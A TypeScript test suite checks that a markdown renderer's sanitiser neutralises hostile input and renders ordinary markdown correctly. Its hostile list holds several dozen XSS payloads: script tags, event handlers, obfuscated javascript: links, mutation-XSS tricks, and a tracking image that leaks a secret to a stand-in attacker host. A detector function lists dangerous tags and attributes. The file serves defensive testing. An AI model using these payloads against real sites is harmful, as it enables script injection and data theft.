// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/ui/markdown';

function render(markdown: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = renderMarkdown(markdown);
  return container;
}

// What an attacker would need to survive sanitising for script to run or data to leave the page.
function dangers(container: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of container.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (
      [
        'script',
        'iframe',
        'object',
        'embed',
        'svg',
        'math',
        'style',
        'form',
        'link',
        'meta',
        'base',
      ].includes(tag)
    ) {
      found.push(`<${tag}>`);
    }
    for (const attribute of element.attributes) {
      // Browsers ignore whitespace and control characters inside a URL scheme, so the check does too.
      const value = [...attribute.value]
        .filter((character) => character.charCodeAt(0) > 32)
        .join('')
        .toLowerCase();
      if (attribute.name.startsWith('on')) found.push(`${tag}[${attribute.name}]`);
      if (attribute.name === 'style') found.push(`${tag}[style]`);
      if (
        /^(?:javascript|vbscript|data):/.test(value) &&
        !(tag === 'img' && /^data:image\/(png|jpeg|gif|webp)/.test(value))
      ) {
        found.push(`${tag}[${attribute.name}=${value.slice(0, 30)}]`);
      }
      if (tag === 'img' && attribute.name === 'src' && /^(https?:)?\/\//.test(value))
        found.push('remote img');
      if (
        attribute.name === 'srcset' ||
        attribute.name === 'formaction' ||
        attribute.name === 'xlink:href'
      ) {
        found.push(`${tag}[${attribute.name}]`);
      }
    }
  }
  return found;
}

const hostile: Array<{ name: string; markdown: string }> = [
  { name: 'a script tag', markdown: 'hi <script>alert(1)</script> there' },
  { name: 'an img onerror', markdown: '<img src="x" onerror="alert(1)">' },
  { name: 'a markdown javascript: link', markdown: '[click](javascript:alert(1))' },
  { name: 'a mixed-case javascript: link', markdown: '[click](JaVaScRiPt:alert(1))' },
  {
    name: 'an entity-encoded javascript: link',
    markdown: '<a href="&#106;avascript:alert(1)">x</a>',
  },
  {
    name: 'a javascript: link with a tab inside',
    markdown: '<a href="java\tscript:alert(1)">x</a>',
  },
  { name: 'an angle-bracket javascript: link', markdown: '[x](<javascript:alert(1)>)' },
  { name: 'a reference-style javascript: link', markdown: '[x][1]\n\n[1]: javascript:alert(1)' },
  {
    name: 'a data: HTML link',
    markdown: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { name: 'a vbscript: link', markdown: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'an svg onload', markdown: '<svg onload="alert(1)"><circle r="1"/></svg>' },
  { name: 'an svg with a script inside', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'an iframe', markdown: '<iframe src="https://evil.example.com"></iframe>' },
  { name: 'an iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  {
    name: 'a style tag with expression',
    markdown: '<style>body { width: expression(alert(1)) }</style>',
  },
  {
    name: 'a style attribute with expression',
    markdown: '<p style="width: expression(alert(1))">x</p>',
  },
  { name: 'an object and an embed', markdown: '<object data="x.swf"></object><embed src="x.swf">' },
  {
    name: 'a form with formaction',
    markdown: '<form><button formaction="javascript:alert(1)">go</button></form>',
  },
  { name: 'a body onload', markdown: '<body onload="alert(1)">' },
  {
    name: 'a details ontoggle',
    markdown: '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  },
  {
    name: 'a math element with a link',
    markdown: '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  },
  {
    name: 'an attribute breaking out of an image title',
    markdown: '![a](x.png "t\\" onerror=\\"alert(1))',
  },
  { name: 'an image with a javascript: source', markdown: '![a](javascript:alert(1))' },
  {
    name: 'an image with an svg data URI',
    markdown: '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  },
  { name: 'a remote tracking image', markdown: '![x](https://evil.example.com/p.png?d=secret)' },
  { name: 'a protocol-relative image', markdown: '<img src="//evil.example.com/p.png">' },
  {
    name: 'an img srcset',
    markdown: '<img src="a.png" srcset="https://evil.example.com/p.png 1x">',
  },
  {
    name: 'a meta refresh',
    markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  },
  { name: 'a base tag', markdown: '<base href="javascript:alert(1)//">' },
  { name: 'a link tag', markdown: '<link rel="stylesheet" href="https://evil.example.com/x.css">' },
  {
    name: 'an input that is not a checkbox',
    markdown: '<input type="image" src="x" onerror="alert(1)">',
  },
  { name: 'a script inside a table cell', markdown: '| a |\n| - |\n| <script>alert(1)</script> |' },
  { name: 'an onclick inside a list', markdown: '- <span onclick="alert(1)">x</span>' },
  {
    name: 'a mutation XSS via noscript',
    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'an HTML comment trick', markdown: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  {
    name: 'a nested markdown link inside an html attribute',
    markdown: '<a title="[x](javascript:alert(1))" href="#">y</a>',
  },
  {
    name: 'a link whose text is a javascript: link',
    markdown: '[[x](javascript:alert(1))](https://example.com)',
  },
  { name: 'an autolink with javascript:', markdown: '<javascript:alert(1)>' },
];

describe('renderMarkdown keeps hostile input inert', () => {
  it.each(hostile)('$name', ({ markdown }) => {
    const container = render(markdown);
    expect(dangers(container)).toEqual([]);
  });

  it('keeps the visible text of a removed script harmless', () => {
    const container = render('before <script>alert(1)</script> after');
    expect(container.querySelector('script')).toBeNull();
    expect(container.textContent).toContain('before');
    expect(container.textContent).toContain('after');
  });

  it('turns a remote image into a link instead of loading it', () => {
    const link = render('![chart](https://example.com/chart.png)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com/chart.png');
    expect(link?.textContent).toBe('image: chart');
    expect(render('![chart](https://example.com/chart.png)').querySelector('img')).toBeNull();
  });

  it('loads remote images only when asked to', () => {
    const container = document.createElement('div');
    container.innerHTML = renderMarkdown('![chart](https://example.com/chart.png)', {
      allowRemoteImages: true,
    });
    expect(container.querySelector('img')?.getAttribute('src')).toBe(
      'https://example.com/chart.png',
    );
  });

  it('drops class names other than a code language, so answers cannot borrow the app styles', () => {
    const container = render('<p class="mw-approval-card">fake</p>');
    expect(container.querySelector('p')?.hasAttribute('class')).toBe(false);
  });
});

describe('renderMarkdown renders ordinary markdown', () => {
  it('renders a GFM table with alignment', () => {
    const container = render('| city | mag |\n| :--- | ---: |\n| Lima | 5.1 |\n| Kobe | 6.9 |');
    const cells = [...container.querySelectorAll('td')].map((cell) => cell.textContent);
    expect(cells).toEqual(['Lima', '5.1', 'Kobe', '6.9']);
    expect(container.querySelectorAll('th')).toHaveLength(2);
    expect(container.querySelector('td:last-child')?.getAttribute('align')).toBe('right');
  });

  it('keeps the language class of a code fence and its text verbatim', () => {
    const container = render('```sql\nSELECT * FROM t WHERE a < 3 AND b > 2;\n```');
    const code = container.querySelector('pre > code');
    expect(code?.className).toBe('language-sql');
    expect(code?.textContent).toBe('SELECT * FROM t WHERE a < 3 AND b > 2;\n');
  });

  it('renders ordered, unordered and task lists', () => {
    const container = render('1. one\n2. two\n\n- a\n- b\n\n- [x] done\n- [ ] todo');
    expect([...container.querySelectorAll('ol > li')].map((item) => item.textContent)).toEqual([
      'one',
      'two',
    ]);
    const boxes = [...container.querySelectorAll('input')];
    expect(boxes.map((box) => [box.type, box.checked, box.disabled])).toEqual([
      ['checkbox', true, true],
      ['checkbox', false, true],
    ]);
  });

  it('opens links in a new tab without giving the page access to the opener', () => {
    const link = render('see [USGS](https://earthquake.usgs.gov/)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://earthquake.usgs.gov/');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('keeps mailto and relative links', () => {
    const links = [
      ...render('[a](mailto:ana@example.com) [b](./docs/x.md) [c](#top)').querySelectorAll('a'),
    ];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'mailto:ana@example.com',
      './docs/x.md',
      '#top',
    ]);
  });

  it('keeps a small inline PNG image', () => {
    const source =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    expect(render(`![dot](${source})`).querySelector('img')?.getAttribute('src')).toBe(source);
  });

  it('renders emphasis, headings, quotes, strikethrough and inline code', () => {
    const container = render('# Title\n\n> **bold** _it_ ~~gone~~ `x < y`');
    expect(container.querySelector('h1')?.textContent).toBe('Title');
    expect(container.querySelector('blockquote strong')?.textContent).toBe('bold');
    expect(container.querySelector('em')?.textContent).toBe('it');
    expect(container.querySelector('del')?.textContent).toBe('gone');
    expect(container.querySelector('code')?.textContent).toBe('x < y');
  });

  it('shows angle brackets in prose as text', () => {
    expect(render('mag < 5 and depth > 10').textContent?.trim()).toBe('mag < 5 and depth > 10');
  });
});
